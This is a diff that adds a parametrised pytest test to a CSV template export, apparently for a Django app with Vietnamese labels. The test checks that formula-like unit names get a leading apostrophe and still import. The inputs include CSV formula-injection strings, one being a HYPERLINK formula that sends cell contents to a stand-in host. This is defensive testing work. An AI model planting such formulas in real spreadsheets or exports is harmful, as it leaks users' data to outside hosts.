@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from decimal import Decimal
 from typing import Any
@@ -218,3 +219,24 @@ def test_template_lists_units_and_numeric_inputs(world: dict[str, Any], login: A
     filled = filled.replace('mẫu số",,', 'mẫu số","25,5",')
     result = run(world, csv_upload(filled))
     assert result.created == 6
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://x.example/?leak="&A2,"Xem")', "+1", "-x", "@SUM(A1)", "\tx", "\rx"]
+
+
+@pytest.mark.parametrize("name", FORMULA_NAMES)
+def test_template_neutralises_a_formula_unit_name(world: dict[str, Any], login: Any, name: str) -> None:
+    """Issue 10 §3: a unit name a spreadsheet would run is written with a leading apostrophe, and the
+    filled template still imports to that unit (the reader drops the apostrophe)."""
+    unit = world["other_unit"]
+    unit.name = name
+    unit.save()
+    text = login("organiser").get(URL.format(world["campaign"].pk) + "tep-mau.csv").content.decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(text)))
+    names = {row[0] for row in rows[1:]}
+    assert "'" + name in names and name not in names
+    filled = io.StringIO()
+    csv.writer(filled).writerows([rows[0], *([*row[:4], "5", ""] for row in rows[1:])])
+    result = run(world, csv_upload(filled.getvalue()))
+    assert result.created == 6
+    assert OfficialFigure.objects.filter(participation__unit=unit).count() == 3
